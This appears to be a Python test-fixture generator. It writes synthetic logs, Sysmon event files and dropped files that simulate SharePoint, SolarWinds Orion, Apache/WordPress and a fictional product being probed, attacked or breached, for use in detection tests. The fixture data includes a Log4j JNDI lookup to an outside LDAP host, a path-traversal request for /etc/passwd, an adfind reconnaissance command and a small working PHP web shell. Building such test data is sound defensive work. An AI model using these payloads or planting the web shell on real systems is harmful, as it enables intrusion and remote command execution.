"""Small servers that are no Exchange: a SharePoint, an Orion, an Apache site, an Acme Frob.

Each function writes one server's evidence below a folder. What is true of it is told in the
function's own words; tests/e2e/test_packs_web.py and test_own_pack.py hold the program to it.

stages: "clean" (ordinary traffic only), "probed" (somebody looked and was refused), "attempted"
(the attack, refused), "entered" (the attack, and what followed).
"""
import datetime
import random

from configuration import program
from evtxgen import EvtxWriter

STAFF, SCANNER, INTRUDER = "192.0.2.%d", "198.51.100.7", "203.0.113.66"
SYSMON = {"provider": "Microsoft-Windows-Sysmon", "guid": "5770385f-c22a-43e0-bf4c-06f5698ffbd9",
          "channel": "Microsoft-Windows-Sysmon/Operational"}
W3C = ("#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: %s\r\n"
       "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
       "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes time-taken\r\n")
BROWSER = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)"


def put(path, content):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())


def times(start, end, minutes):
    """Evenly spread times that no record of a story falls on."""
    t = start
    while t < end:
        yield t
        t += datetime.timedelta(minutes=minutes)


def iis_rows(rows):
    """rows: (time, client, method, stem, query, status, user, referer, agent, bytes)"""
    out = [W3C % rows[0][0]]
    for t, client, method, stem, query, status, user, referer, agent, size in sorted(rows):
        out.append(f"{t:%Y-%m-%d %H:%M:%S} 10.0.0.5 {method} {stem} {query} 443 {user} {client} {agent} "
                   f"{referer} {status} 0 0 {size} 31\r\n")
    return "".join(out)


def sysmon_log(path, computer, start, end, children):
    """Process creation every few hours, and `children`: (time, image, command, parent, its command)."""
    usual = [(t, "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs",
              "C:\\Windows\\System32\\services.exe", "services.exe") for t in times(start, end, 240)]
    path.parent.mkdir(parents=True, exist_ok=True)
    with EvtxWriter(str(path)) as log:
        for i, (t, image, command, parent, parent_command) in enumerate(sorted(usual + children)):
            log.add(**SYSMON, event_id=1, computer=computer, time=t, version=5, data=[
                ("UtcTime", f"{t:%Y-%m-%d %H:%M:%S}.000"), ("ProcessId", str(3000 + i)),
                ("Image", image), ("CommandLine", command), ("User", "EXAMPLE\\svc"),
                ("ParentProcessId", "900"), ("ParentImage", parent),
                ("ParentCommandLine", parent_command)])


def sharepoint(root, stage, build=(16, 0, 10417, 20018), without=()):
    """A SharePoint Server 2019 from 2025-07-06 to 2025-07-24, never patched unless `build` is a
    fixed one. "entered": on 2025-07-18 03:00:05 ToolPane answers 200 to nobody, w3wp runs
    powershell within the second, spinstall0.aspx is written and answers at 03:00:11."""
    rng = random.Random(5)
    start, end = datetime.datetime(2025, 7, 6, 0, 0, 3), datetime.datetime(2025, 7, 24)
    hit = datetime.datetime(2025, 7, 18, 3, 0, 5)
    second = datetime.timedelta(seconds=1)
    rows = [(t, STAFF % rng.randrange(1, 250), "GET", rng.choice(
        ["/_layouts/15/start.aspx", "/_layouts/15/Authenticate.aspx", "/SitePages/Home.aspx"]), "-", 200,
        "EXAMPLE\\ann", "-", BROWSER, 5120) for t in times(start, end, 37)]
    edit = "DisplayMode=Edit&a=/ToolPane.aspx"
    # people edit pages too
    rows.append((hit - 86400 * second, STAFF % 4, "POST", "/_layouts/15/ToolPane.aspx", "DisplayMode=Edit", 200,
                 "EXAMPLE\\ann", "https://portal.example.com/SitePages/Home.aspx", BROWSER, 900))
    out = "/_layouts/SignOut.aspx"
    children = []
    layouts = root / "C/Program Files/Common Files/microsoft shared/Web Server Extensions/16/TEMPLATE/LAYOUTS"
    if stage == "probed":
        rows.append((hit, SCANNER, "GET", "/_layouts/15/ToolPane.aspx", "-", 401, "-", "-", BROWSER, 0))
        rows.append((hit + second, SCANNER, "GET", "/_layouts/15/spinstall0.aspx", "-", 404, "-", "-", BROWSER, 0))
    if stage == "attempted":
        rows.append((hit, INTRUDER, "POST", "/_layouts/15/ToolPane.aspx", edit, 401, "-", out, BROWSER, 0))
    if stage == "entered":
        rows.append((hit, INTRUDER, "POST", "/_layouts/15/ToolPane.aspx", edit, 200, "-", out, BROWSER, 4000))
        rows.append((hit + 6 * second, INTRUDER, "GET", "/_layouts/15/spinstall0.aspx", "-", 200, "-", out, BROWSER, 160))
        children.append((hit + second, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                         "powershell -EncodedCommand " + "QQBB" * 12, "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
                         'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "SharePoint - 443"'))
        put(layouts / "spinstall0.aspx", "<%@ Page Language=\"C#\" %><html>made for a test</html>\n")
    put(layouts / "start.aspx", "<%@ Page Language=\"C#\" %><html>start</html>\n")
    put(root / "C/Program Files/Common Files/microsoft shared/Web Server Extensions/16/ISAPI/Microsoft.SharePoint.dll",
        program(version=build, name="Microsoft.SharePoint.dll"))
    if "iis" not in without:
        put(root / "C/inetpub/logs/LogFiles/W3SVC1/u_ex250706.log", iis_rows(rows))
    if "sysmon" not in without:
        sysmon_log(root / "C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx",
                   "SP01.example.com", start, end, children)


def orion(root, stage, version=(2020, 2, 5300, 12432), without=()):
    """An Orion server from 2020-03-25 to 2020-12-20 with the build of `version`. "attempted" (of
    SUPERNOVA): a logon passed over is refused. "beacon": the back door asked once, on 2020-05-02.
    "entered": it was answered with an alias and ran adfind through cmd; and the web shell of
    SUPERNOVA was given code on 2020-08-11."""
    rng = random.Random(6)
    start, end = datetime.datetime(2020, 2, 29, 0, 0, 3), datetime.datetime(2020, 12, 20)
    host = "C:\\Program Files (x86)\\SolarWinds\\Orion\\SolarWinds.BusinessLayerHost.exe"
    ask = datetime.datetime(2020, 5, 2, 4, 11, 9)
    hour = datetime.timedelta(hours=1)
    rows = [(t, STAFF % rng.randrange(1, 250), "GET", rng.choice(
        ["/Orion/Login.aspx", "/Orion/LogoImageHandler.ashx", "/Orion/SummaryView.aspx"]), "id=SitelogoImage", 200,
        "-", "-", BROWSER, 5120) for t in times(start, end, 600)]
    at = datetime.datetime(2020, 8, 11, 7, 30, 1)
    if stage == "attempted":
        rows.append((at, INTRUDER, "POST", "/api/Action/TestAction/WebResource.axd", "-", 401, "-", "-", BROWSER, 0))
    if stage == "entered":
        rows.append((at, INTRUDER, "POST", "/api/Action/TestAction/WebResource.axd", "-", 200, "-", "-", BROWSER, 30))
        rows.append((at + hour, INTRUDER, "GET", "/Orion/LogoImageHandler.ashx",
                     "clazz=A&method=B&args=c&codes=dXNpbmc", 200, "-", "-", BROWSER, 70))
    put(root / "C/inetpub/logs/LogFiles/W3SVC1/u_ex200229.log", iis_rows(rows))
    put(root / "C/Program Files (x86)/SolarWinds/Orion/SolarWinds.Orion.Core.BusinessLayer.dll",
        program(version=version, name="SolarWinds.Orion.Core.BusinessLayer.dll", signed=True))
    put(root / "C/inetpub/SolarWinds/bin/other.dll", program(version=version, name="other.dll", signed=True))
    if "sysmon" in without:
        return
    path = root / "C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx"
    path.parent.mkdir(parents=True, exist_ok=True)
    queries = [(t, "api.solarwinds.com", "::ffff:192.0.2.9;") for t in times(start, end, 720)]
    if stage in ("beacon", "entered"):
        name = "6a57jk2ba1d9keg15cbg.appsync-api.eu-west-1.avsvmcloud.com"
        alias = "type:  5 freescanonline.com;::ffff:203.0.113.99;" if stage == "entered" else "::ffff:20.140.0.1;"
        queries.append((ask, name, alias))
    children = [(t, None, None) for t in times(start, end, 660)]
    if stage == "entered":
        children.append((ask + hour, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c adfind.exe -sc u:*"))
    with EvtxWriter(str(path)) as log:
        for t, kind, a, b in sorted([(t, 22, q, r) for t, q, r in queries] +
                                    [(t, 1, i or "C:\\Windows\\System32\\svchost.exe", c or "svchost.exe -k x")
                                     for t, i, c in children], key=lambda e: e[0]):
            data = [("UtcTime", f"{t:%Y-%m-%d %H:%M:%S}.000"), ("ProcessId", "4004")]
            if kind == 22:
                data += [("QueryName", a), ("QueryStatus", "0"), ("QueryResults", b), ("Image", host)]
            else:
                mine = "adfind" in b
                data += [("Image", a), ("CommandLine", b), ("ParentProcessId", "900"),
                         ("ParentImage", host if mine else "C:\\Windows\\System32\\services.exe"),
                         ("ParentCommandLine", "x")]
            log.add(**SYSMON, event_id=kind, computer="ORION01.example.com", time=t, version=5, data=data)


def apache(root, stage, without=()):
    """A blog on Apache from 2024-05-01 to 2024-05-14, scanned by who only looks. "attempted": a
    look-up of Log4j and a path upwards, answered 200 by the front page as all is. "entered": on
    2024-05-08 01:00:13 a script uploaded eight seconds before runs id; it is used again two days
    later."""
    rng = random.Random(3)
    rows = []

    def add(t, ip, request, status, size, agent="Mozilla/5.0 (X11; Linux x86_64)"):
        rows.append((t, f'{ip} - - [{t:%d/%b/%Y:%H:%M:%S} +0000] "{request} HTTP/1.1" {status} {size} "-" "{agent}"'))
    for t in times(datetime.datetime(2024, 5, 1, 0, 0, 3), datetime.datetime(2024, 5, 14), 41):
        add(t, STAFF % rng.randrange(1, 250), rng.choice(
            ["GET /", "GET /about/", "GET /wp-content/uploads/2024/05/photo.jpg", "GET /?s=how+to+use+id",
             "POST /wp-comments-post.php", "GET /wp-content/uploads/index.php"]), 200, rng.randrange(800, 30000))
    second = datetime.timedelta(seconds=1)
    look = datetime.datetime(2024, 5, 6, 3, 12, 9)
    if stage != "clean":
        for i, place in enumerate(["/.env", "/wp-config.php.bak", "/.git/HEAD", "/wp-content/alfa.php",
                                   "/owa/auth/x.js", "/_layouts/15/ToolPane.aspx"]):
            add(look + i * second, SCANNER, f"GET {place}", 404, 196, "Mozilla/5.0 zgrab/0.x")
    if stage in ("attempted", "entered"):
        add(look + 60 * second, INTRUDER, "GET /?x=${jndi:ldap://198.51.100.9/a}", 200, 5120, "curl/8")
        add(look + 90 * second, INTRUDER, "GET /?page=../../../../etc/passwd", 200, 5120, "curl/8")
    at = datetime.datetime(2024, 5, 8, 1, 0, 5)
    if stage == "entered":
        page = "/wp-content/uploads/2024/05/x.php"
        add(at, INTRUDER, "POST /wp-admin/admin-ajax.php?action=upload", 200, 61, "python-requests/2.31")
        add(at + 8 * second, INTRUDER, f"GET {page}?c=id", 200, 54, "python-requests/2.31")
        add(at + 2 * 86400 * second, INTRUDER, f"POST {page}", 200, 1120, "python-requests/2.31")
    if "log" not in without:
        put(root / "var/log/apache2/access.log", "\n".join(text for _, text in sorted(rows)) + "\n")
    if "files" in without:
        return
    put(root / "var/www/html/index.php", "<?php require 'wp-blog-header.php';\n")
    put(root / "var/www/html/wp-content/uploads/index.php", "<?php // Silence is golden.\n")
    if stage == "entered":
        put(root / "var/www/html/wp-content/uploads/2024/05/x.php",
            "<?php " + "@ev" + "al($_POST['k']); sys" + "tem($_GET['c']);\n")


def frob(root, stage, version="3.1.0.100", without=()):
    """An Acme Frob from 2031-04-29 to 2031-05-30, a product that does not exist. "attempted": a
    forged ticket is refused on 2031-05-12. "entered": it is let in (202), and Frob tells that it
    ran what came."""
    start, end = datetime.datetime(2031, 4, 29, 0, 0, 3), datetime.datetime(2031, 5, 30)
    at = datetime.datetime(2031, 5, 12, 5, 0, 1)
    rows = [(t, STAFF % 9, "GET", "/frob/list", "-", 200, "-", "-", BROWSER, 512) for t in times(start, end, 300)]
    if stage in ("attempted", "entered"):
        rows.append((at, INTRUDER, "POST", "/frob/import", "ticket=0000", 202 if stage == "entered" else 403,
                     "-", "-", BROWSER, 12))
    if "iis" not in without:
        put(root / "C/inetpub/logs/LogFiles/W3SVC1/u_ex310429.log", iis_rows(rows))
    put(root / "C/Program Files/Acme/Frob/readme.txt", "Acme Frob\n")
    path = root / "C/Windows/System32/winevt/Logs/Acme-Frob.evtx"
    path.parent.mkdir(parents=True, exist_ok=True)
    events = [(t, 1, [("Release", version)]) for t in times(start, end, 1440 * 3)]
    if stage == "entered":
        events.append((at + datetime.timedelta(seconds=1), 7, [("Origin", "import"), ("Script", "a.frob")]))
    with EvtxWriter(str(path)) as log:
        for t, event_id, data in sorted(events, key=lambda e: e[0]):
            log.add(provider="Acme-Frob", channel="Acme-Frob", computer="FROB01.example.com", event_id=event_id,
                    time=t, data=data, guid="11111111-2222-4333-8444-555555555555")
